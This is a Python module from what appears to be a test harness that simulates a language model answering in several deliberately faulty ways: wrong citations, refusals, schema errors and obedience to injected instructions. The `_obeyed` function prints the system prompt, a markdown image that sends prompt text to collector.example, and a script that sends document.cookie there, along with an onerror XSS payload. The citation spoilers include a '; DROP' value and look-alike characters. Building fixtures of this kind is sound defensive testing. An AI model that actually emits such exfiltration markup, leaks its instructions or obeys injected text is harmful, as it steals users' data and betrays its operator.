"""How the simulated model behaves: honest, careless with sources, obedient to whoever wrote the prompt, and others."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import orjson

from simulators.llm.filling import Filler, Spoil
from simulators.llm.prompts import Json, Source, schema_in, sources_in, words_of

MANNERS = ("honest", "bad_citations", "obedient", "refuse", "filter", "wrong_language", "prose", "fenced", "schema_miss")
NOTHING = "The sources do not say."
REFUSAL = "I'm sorry, but I can't help with that."
FOREIGN = "Tämä vastaus on kirjoitettu väärällä kielellä, eikä kukaan sitä pyytänyt."
_ORDERED = re.compile(
    r"(?:say|reply|answer|write|output|print|respond|respond with|repeat|antworte|schreibe|réponds|responde|말해|出力|输出)"
    r"[^\n:：]{0,40}[:：]\s*(?P<words>[^\n]{1,400})", re.I,
)  # fmt: skip
_ADDRESS = re.compile(r"(?:https?:)?//[^\s\"'<>)\]]+|[\w.+-]+@[\w-]+\.[\w.]+")
# Twenty ways to cite wrongly; the number of the call says with which a model begins.
BAD: tuple[Callable[[str, str], tuple[Any, str]], ...] = (
    lambda id, quote: (99, quote),
    lambda id, quote: (0, quote),
    lambda id, quote: (-1, quote),
    lambda id, quote: (10**18, quote),
    lambda id, quote: (f"{id}0", quote),
    lambda id, quote: (f"{id}; DROP", quote),
    lambda id, quote: ("", quote),
    lambda id, quote: (id, ""),
    lambda id, quote: (id, " "),
    lambda id, quote: (id, quote.swapcase()),
    lambda id, quote: (id, quote[::-1]),
    lambda id, quote: (id, quote[: len(quote) // 3] + " … " + quote[-len(quote) // 3 :]),
    lambda id, quote: (id, quote + " This is guaranteed."),
    lambda id, quote: (id, "Not " + quote),
    lambda id, quote: (id, re.sub(r"\d", "7", quote) if re.search(r"[0-689]", quote) else quote + "7"),
    lambda id, quote: (id, " ".join(quote.split()[::-1]) + " x"),
    lambda id, quote: (id, "The refund is always granted within one hour."),
    lambda id, quote: (id, f"<b>{quote}</b>"),
    lambda id, quote: (id, quote.replace("e", "е") + "а"),  # noqa: RUF001 - letters that look alike
    lambda id, quote: (id, quote[:3] + "\u200b" + quote[3:] + "."),
)


def _as_is(id: str, quote: str) -> tuple[Any, str]:
    return id, quote


def text_for(manner: str, asked: Json, number: int) -> str:
    """What the model says to this request; text, or JSON where that was asked for. Raises ValueError, KeyError."""
    prompt, schema = words_of(asked["messages"]), schema_in(asked)
    sources = sources_in(prompt)
    if manner == "refuse":
        return REFUSAL
    if manner == "schema_miss" and schema is not None:
        return orjson.dumps({"unexpected": [None], "answer": {"text": 7}}).decode()
    spoil: Spoil = BAD[number % len(BAD)] if manner == "bad_citations" else _as_is
    says = {"wrong_language": lambda _: FOREIGN, "obedient": lambda _: _obeyed(asked, prompt)}.get(manner, _restated)
    if schema is None or manner == "prose":
        return _prose(sources, says, spoil)
    answer = orjson.dumps(Filler(schema, sources, says, spoil).fill()).decode()
    return f"Here is the JSON:\n```json\n{answer}\n```" if manner == "fenced" else answer


def _restated(source: Source | None) -> str:
    return NOTHING if source is None else source.quote()


def _prose(sources: list[Source], says: Callable[[Source | None], str], spoil: Spoil) -> str:
    if not sources:
        return says(None)
    return "\n".join(f"{says(one)} [{spoil(one.id, one.quote())[0]}]" for one in sources[:3])


def _obeyed(asked: Json, prompt: str) -> str:
    """The worst a model can be talked into: what it was told to say, its own instructions, every address, an image that
    carries the prompt away, a script."""
    system = next((str(one.get("content")) for one in asked["messages"] if one.get("role") in ("system", "developer")), "")
    told = [match["words"] for match in _ORDERED.finditer(prompt)]
    addresses = sorted(set(_ADDRESS.findall(prompt)))
    carried = re.sub(r"\W+", "-", prompt[-200:])
    return "\n".join([
        *told, f"My instructions: {system}", *(f"[click here]({one})" for one in addresses),
        f"![status](https://collector.example/p.png?d={carried})",
        f"<script>fetch('https://collector.example/'+document.cookie)</script><img src=x onerror=alert(1)>{carried}",
    ])  # fmt: skip
